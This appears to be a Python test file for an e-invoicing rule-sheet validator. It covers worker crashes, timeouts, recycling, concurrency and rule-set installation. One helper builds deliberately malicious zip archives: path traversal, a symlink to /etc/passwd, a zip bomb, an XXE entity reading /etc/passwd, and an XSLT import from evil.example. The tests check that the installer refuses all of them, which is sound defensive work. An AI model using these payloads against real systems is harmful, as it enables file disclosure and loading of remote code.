"""The rule sheets as they are installed, and the worker processes that run them: killed, slow, worn, asked by many."""

import io
import os
import shutil
import signal
import stat
import threading
import time
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from dms.cli.main import cli
from invoicing import Invoice, Rulebook, RuleChecker, check, write_cii, write_ubl
from invoicing.rules import RECYCLE_BYTES, RulesUnavailable
from invoicing.rulesets import BUILT_IN, RuleSetError, default_folder, install_kosit, installed
from tests.conftest import skip_loudly
from tests.unit.invoicing.conftest import plain_invoice

TODAY = date(2026, 11, 24)
KINDS = ["cen-ubl", "xrechnung-ubl"]


@pytest.fixture(scope="module")
def invoice() -> Invoice:
    return plain_invoice()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A copy of the installed rule sets, to be spoiled."""
    if not installed(default_folder()):
        skip_loudly("no rule sheets here: run `make setup`")
    target = tmp_path / "rules"
    shutil.copytree(default_folder(), target)
    return target


@pytest.fixture
def checker(folder: Path) -> Iterator[RuleChecker]:
    rulebook = Rulebook(folder)
    found = rulebook.checker(TODAY)
    assert found is not None
    yield found
    rulebook.close()


def _text(invoice: Invoice) -> str:
    return write_ubl(invoice).decode().partition("?>")[2]


def test_a_worker_that_is_killed_in_the_middle_is_replaced_and_the_next_document_is_fine(
    checker: RuleChecker, invoice: Invoice
) -> None:
    assert check(write_ubl(invoice), checker).accepted is True
    [before] = checker.processes()
    os.kill(before, signal.SIGSTOP)
    killer = threading.Timer(0.5, os.kill, (before, signal.SIGKILL))
    killer.start()
    assert check(write_ubl(invoice), checker).accepted is True, "the second try counts"
    assert checker.processes() != [before]


def test_what_kills_every_worker_is_not_checked_and_never_accepted(checker: RuleChecker, invoice: Invoice) -> None:
    assert check(write_ubl(invoice), checker).accepted is True
    is_over = threading.Event()

    def kill_all() -> None:
        while not is_over.is_set():
            for pid in checker.processes():
                os.kill(pid, signal.SIGKILL)
            time.sleep(0.01)

    killer = threading.Thread(target=kill_all)
    killer.start()
    try:
        report = check(write_ubl(invoice), checker)
    finally:
        is_over.set()
        killer.join()
    assert (report.accepted, report.findings[-1].rule) == (None, "rules.crashed")
    assert check(write_ubl(invoice), checker).accepted is True


def test_a_document_that_takes_too_long_is_not_checked(checker: RuleChecker, invoice: Invoice) -> None:
    checker.run(KINDS, _text(invoice))
    [pid] = checker.processes()
    os.kill(pid, signal.SIGSTOP)
    with pytest.raises(RulesUnavailable, match=r"rules\.timeout"):
        checker.run(KINDS, _text(invoice), seconds=0)
    assert checker.run(KINDS, _text(invoice))


@pytest.mark.parametrize("how", ["altered", "removed"])
def test_spoiled_sheets_are_never_used(folder: Path, invoice: Invoice, how: str) -> None:
    [sheet] = folder.glob("*/*/XRechnung-UBL-validation.xsl")
    sheet.chmod(stat.S_IRUSR | stat.S_IWUSR)
    if how == "altered":
        sheet.write_bytes(sheet.read_bytes() + b"<!-- -->")
    else:
        sheet.unlink()
    rulebook = Rulebook(folder)
    report = check(write_ubl(invoice), rulebook.checker(TODAY))
    rulebook.close()
    assert (report.accepted, report.findings[-1].rule) == (None, "rules.altered")


def test_nothing_is_accepted_where_no_rules_are_installed(tmp_path: Path, invoice: Invoice) -> None:
    assert Rulebook(tmp_path).checker(TODAY) is None
    report = check(write_ubl(invoice), None)
    assert (report.accepted, report.findings[-1].rule) == (None, "rules.missing")


def test_eight_threads_get_eight_right_answers(folder: Path, invoice: Invoice) -> None:
    rulebook = Rulebook(folder, workers=2)
    checker = rulebook.checker(TODAY)
    good, bad = write_ubl(invoice), write_cii(invoice).replace(b"04011000-1234512345-06", b"")
    with ThreadPoolExecutor(8) as pool:
        reports = list(pool.map(lambda data: check(data, checker), [good, bad] * 24))
    left_open = [report.findings[-1] for report in reports if report.accepted is None]
    assert left_open == []
    assert [report.accepted for report in reports] == [True, False] * 24
    assert checker is not None
    assert len(checker.processes()) <= 2
    rulebook.close()


def test_a_worn_worker_is_replaced(checker: RuleChecker, invoice: Invoice, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("invoicing.rules.RECYCLE_AFTER", 3)
    seen = set()
    for _ in range(7):
        checker.run(KINDS, _text(invoice))
        seen.update(checker.processes())
    assert len(seen) == 3


def test_a_worker_is_judged_by_its_own_size_not_by_that_of_its_parent(checker: RuleChecker, invoice: Invoice) -> None:
    ballast = b"x" * (RECYCLE_BYTES + (50 << 20))
    checker.run(KINDS, _text(invoice))
    [pid] = checker.processes()
    checker.run(KINDS, _text(invoice))
    assert checker.processes() == [pid]
    del ballast


def test_workers_end_with_the_process_that_started_them(folder: Path, invoice: Invoice) -> None:
    rulebook = Rulebook(folder)
    checker = rulebook.checker(TODAY)
    assert checker is not None
    checker.run(KINDS, _text(invoice))
    [pid] = checker.processes()
    rulebook.close()
    assert not Path(f"/proc/{pid}").exists()


def test_a_rule_set_that_is_installed_meanwhile_counts_for_what_comes_after_it(folder: Path) -> None:
    rulebook = Rulebook(folder)
    [known] = installed(folder)
    with _configuration(known.folder, day="2026-11-20") as archive:
        newer = install_kosit(archive, "neu.zip", folder)
    before, after = rulebook.checker(date(2026, 11, 19)), rulebook.checker(date(2026, 11, 20))
    assert before is not None
    assert after is not None
    assert (before.rule_set.version, after.rule_set.version) == (known.version, newer.version)
    rulebook.close()


def test_an_official_configuration_gives_the_built_in_verdicts(folder: Path, invoice: Invoice) -> None:
    [known] = installed(folder)
    with _configuration(known.folder, day="2026-11-20") as archive:
        found = install_kosit(archive, "neu.zip", folder)
    assert dict(found.scenarios) == dict(BUILT_IN)
    rulebook = Rulebook(folder)
    for write in (write_ubl, write_cii):
        report = check(write(invoice), rulebook.checker(TODAY))
        assert (report.accepted, dict(report.rule_set or {})) == (True, found.label)
    rulebook.close()


def _spoiled(name: str, base: Path) -> io.BytesIO:
    sheet = (base / "EN16931-UBL-validation.xsl").read_bytes()
    good = _scenarios("2026-11-20")
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        match name:
            case "traversal":
                archive.writestr("../../scenarios.xml", good)
            case "link":
                info = zipfile.ZipInfo("scenarios.xml")
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                archive.writestr(info, "/etc/passwd")
            case "bomb":
                archive.writestr("scenarios.xml", good)
                archive.writestr("resources/x.bin", bytes(7_000_000))
            case "doctype":
                archive.writestr("scenarios.xml", '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><s>&e;</s>')
            case "import":
                archive.writestr("scenarios.xml", good)
                for stem in ("EN16931", "XRechnung"):
                    for kind in ("UBL", "CII"):
                        archive.writestr(
                            f"resources/{stem}-{kind}-validation.xsl",
                            sheet.replace(
                                b"<xsl:output", b'<xsl:import href="http://evil.example/x.xsl"/><xsl:output', 1
                            ),
                        )
            case "other_match":
                archive.writestr("scenarios.xml", good.replace("='urn", "!='urn"))
            case "missing_sheet":
                archive.writestr("scenarios.xml", good)
            case "many":
                for number in range(500):
                    archive.writestr(f"{number}.txt", "")
    target.seek(0)
    return target


@pytest.mark.parametrize(
    "name", ["traversal", "link", "bomb", "doctype", "import", "other_match", "missing_sheet", "many"]
)
def test_a_spoiled_configuration_is_refused_and_nothing_is_installed(folder: Path, name: str) -> None:
    [known] = installed(folder)
    before = sorted(folder.rglob("*"))
    with pytest.raises(RuleSetError, match=r"rules\.unexpected_form"):
        install_kosit(_spoiled(name, known.folder), "böse.zip", folder)
    assert sorted(folder.rglob("*")) == before


def test_a_version_means_the_same_rules_for_good(folder: Path) -> None:
    [known] = installed(folder)
    with _configuration(known.folder, day="2026-11-20") as archive:
        first = install_kosit(archive, "neu.zip", folder)
    with _configuration(known.folder, day="2026-11-20") as archive:
        again = install_kosit(archive, "neu.zip", folder)
    with (
        _configuration(known.folder, day="2026-11-20", remark=b"<!-- other -->") as archive,
        pytest.raises(RuleSetError, match=r"rules\.other_content"),
    ):
        install_kosit(archive, "anders.zip", folder)
    assert first.files == again.files == installed(folder)[0].files


def test_the_command_installs_a_configuration_and_repairs_what_was_altered(folder: Path, tmp_path: Path) -> None:
    [known] = installed(folder)
    archive = tmp_path / "neu.zip"
    with _configuration(known.folder, day="2026-11-20") as made:
        archive.write_bytes(made.read())
    run = CliRunner(env={"DMS_RULES_DIR": str(folder)})
    assert run.invoke(cli, ["rules", "install", "--kosit", str(archive)]).exit_code == 0
    sheet = folder / known.name / "2026-11-20" / "XRechnung-CII-validation.xsl"
    sheet.write_bytes(b"<nichts/>")
    listed = run.invoke(cli, ["rules", "list"])
    assert (listed.exit_code, "VERÄNDERT" in listed.output) == (1, True)
    assert run.invoke(cli, ["rules", "install", "--kosit", str(archive)]).exit_code == 0
    assert run.invoke(cli, ["rules", "list"]).exit_code == 0
    wrong = run.invoke(cli, ["rules", "install", "--wheel", str(archive)])
    assert (wrong.exit_code, "Prüfsumme" in wrong.output) == (1, True)


def _configuration(base: Path, *, day: str, remark: bytes = b"") -> io.BytesIO:
    """An official configuration as it is published, made of the installed sheets."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("scenarios.xml", _scenarios(day))
        for sheet in base.glob("*-validation.xsl"):
            archive.writestr(f"resources/{sheet.name}", sheet.read_bytes() + remark)
    target.seek(0)
    return target


def _scenarios(day: str) -> str:
    roots = {"ubl-invoice": "ubl:Invoice", "ubl-creditnote": "cn:CreditNote", "cii": "rsm:CrossIndustryInvoice"}
    stems = {"cen": "EN16931", "xrechnung": "XRechnung"}
    parts = [f'<scenarios xmlns="http://www.xoev.de/de/validator/framework/1/scenarios"><date>{day}</date>']
    for (profile, syntax), scenario in BUILT_IN.items():
        family = "CII" if syntax.value == "cii" else "UBL"
        sheets = "".join(
            "<validateWithSchematron><resource><location>"
            f"resources/{stems[kind]}-{family}-validation.xsl</location></resource></validateWithSchematron>"
            for kind in scenario.sheets
        )
        levels = "".join(
            f'<customLevel level="{level.value}">{rule}</customLevel>' for rule, level in scenario.overrides.items()
        )
        match = f"/{roots[syntax.value]}[cbc:CustomizationID='{profile}']"
        parts.append(f"<scenario><match>{match}</match>{sheets}<createReport>{levels}</createReport></scenario>")
    return "".join(parts) + "</scenarios>"
